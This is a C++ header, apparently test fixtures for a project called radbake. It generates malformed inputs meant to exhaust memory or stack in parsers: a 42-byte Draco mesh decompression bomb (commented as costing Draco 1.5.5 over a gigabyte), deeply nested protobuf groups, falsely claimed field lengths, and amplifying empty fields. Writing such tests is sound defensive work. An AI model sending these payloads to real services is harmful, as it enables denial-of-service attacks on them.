#pragma once

#include <cstdint>
#include <initializer_list>
#include <string>

namespace radbake::attacks {

/// Seven bits a byte, lowest first.
inline void append_varint(std::string& bytes, std::uint64_t value) {
  for (; value >= 0x80; value >>= 7) bytes.push_back(static_cast<char>(value | 0x80));
  bytes.push_back(static_cast<char>(value));
}

inline std::string bytes_of(std::initializer_list<int> values) {
  std::string bytes;
  for (const int value : values) bytes.push_back(static_cast<char>(value));
  return bytes;
}

/// 42 bytes of Draco's edgebreaker that claim so many triangles. Draco 1.5.5 takes 1151 MB for 50 million of them.
inline std::string draco_bomb(std::uint32_t num_triangles) {
  std::string bytes = "DRACO" + bytes_of({2, 2, 1, 1, 0, 0, 0});
  append_varint(bytes, num_triangles / 2);  // vertices
  append_varint(bytes, num_triangles);
  bytes.push_back(0);
  append_varint(bytes, num_triangles);  // symbols
  append_varint(bytes, 0);              // splits
  bytes.resize(42, '\0');
  return bytes;
}

/// A message that holds itself so many times, as groups that no record knows.
inline std::string nested_groups(int depth) {
  constexpr int kFieldNumber = 100;
  std::string bytes;
  for (int i = 0; i < depth; ++i) append_varint(bytes, kFieldNumber << 3 | 3);
  for (int i = 0; i < depth; ++i) append_varint(bytes, kFieldNumber << 3 | 4);
  return bytes;
}

/// A field of so many bytes by its own word, with nothing behind it.
inline std::string claimed_field(int number, std::uint64_t num_bytes) {
  std::string bytes;
  append_varint(bytes, static_cast<std::uint64_t>(number) << 3 | 2);
  append_varint(bytes, num_bytes);
  return bytes;
}

/// A field that is there so many times, each time empty: two bytes that become an object.
inline std::string empty_fields(int number, int count) {
  std::string bytes;
  for (int i = 0; i < count; ++i) bytes += claimed_field(number, 0);
  return bytes;
}

}  // namespace radbake::attacks
